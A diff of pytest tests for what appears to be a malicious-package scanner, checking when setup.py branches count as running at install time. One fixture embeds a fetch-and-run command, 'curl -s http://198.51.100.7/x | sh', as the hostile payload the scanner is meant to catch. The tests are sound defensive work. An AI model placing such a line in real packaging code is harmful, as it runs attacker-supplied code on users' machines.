@@ -52,6 +52,29 @@ def test_publish_branch_of_setup_py_is_not_install_time() -> None:
     assert not worst(result)
 
 
+@pytest.mark.parametrize(
+    ("test", "install_time"),
+    [
+        ('sys.argv[-1].startswith("publish")', False),
+        ('sys.argv[-1].startswith(("upload", "release"))', False),
+        ('sys.argv[-1].startswith("b")', True),  # bdist_wheel, build: installs
+        ('not sys.argv[-1].startswith("publish")', True),  # every other command
+        ("sys.argv[-1].startswith(PREFIX)", True),  # not a constant: not known
+    ],
+)
+def test_a_branch_for_commands_with_a_maintainers_prefix(test: str, install_time: bool) -> None:
+    src = f"""
+        import os, sys
+        from setuptools import setup
+        PREFIX = os.environ.get("PREFIX", "")
+        if {test}:
+            os.system("curl -s http://198.51.100.7/x | sh")
+            sys.exit()
+        setup(name="demo")
+    """
+    assert (scan({"setup.py": src}).verdict == "malicious") is install_time
+
+
 def test_install_branch_of_setup_py_still_runs_at_install() -> None:
     src = """
         import os, sys
@@ -1423,6 +1446,21 @@ def test_a_command_that_only_builds_the_sdist_is_not_install_time() -> None:
     ``sdist`` command that bundled it ran on the maintainer's machine, never on the user's."""
     result = scan({"setup.py": _SDIST_HOOK, "demo/__init__.py": ""})
     assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_command_registered_for_the_sdist_twice_is_still_not_install_time() -> None:
+    """A class registered under ``sdist`` on one platform and another elsewhere: every mention
+    of the word is a registration, none runs it."""
+    src = _SDIST_HOOK.replace(
+        'setup(name="demo", cmdclass={"sdist": BundleAssets})',
+        'import sys\n    cmdclass = {"sdist": sdist}\n'
+        '    if sys.platform != "win32":\n        cmdclass.update({"sdist": BundleAssets})\n'
+        '    setup(name="demo", cmdclass=cmdclass)',
+    )
+    assert src.count('"sdist"') == 2
+    assert scan({"setup.py": src, "demo/__init__.py": ""}).verdict not in FLAGGED
+    ran = src.replace("setup(name=", 'sys.argv.append("sdist")\n    setup(name=')
+    assert scan({"setup.py": ran, "demo/__init__.py": ""}).verdict in FLAGGED
 
 
 def test_the_same_download_in_a_build_command_is_install_time() -> None:
